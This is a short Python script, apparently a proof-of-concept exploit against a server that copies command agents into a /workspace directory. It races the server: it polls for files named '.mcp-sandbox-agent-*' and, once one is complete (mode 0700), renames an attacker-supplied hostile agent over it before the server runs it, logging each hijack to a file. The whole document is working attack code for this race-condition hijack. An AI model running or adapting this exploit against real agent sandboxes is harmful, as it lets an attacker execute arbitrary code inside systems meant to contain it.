# Waits for the server to copy a fresh command agent into the workspace
# and, once it is complete (mode 0700), renames the next hostile agent
# named on the command line over it before the server runs it. Appends the
# name to /workspace/hijacked each time.
import os, sys, time

hostile, done, deadline = sys.argv[1:], set(), time.time() + 300
while hostile and time.time() < deadline:
    for n in os.listdir("/workspace"):
        if not n.startswith(".mcp-sandbox-agent-") or n in done:
            continue
        p = "/workspace/" + n
        try:
            if os.stat(p).st_mode & 0o777 == 0o700:
                os.rename(hostile.pop(0), p)
                done.add(n)
                open("/workspace/hijacked", "a").write(n + "\n")
                break
        except OSError:
            pass
    time.sleep(0.0005)
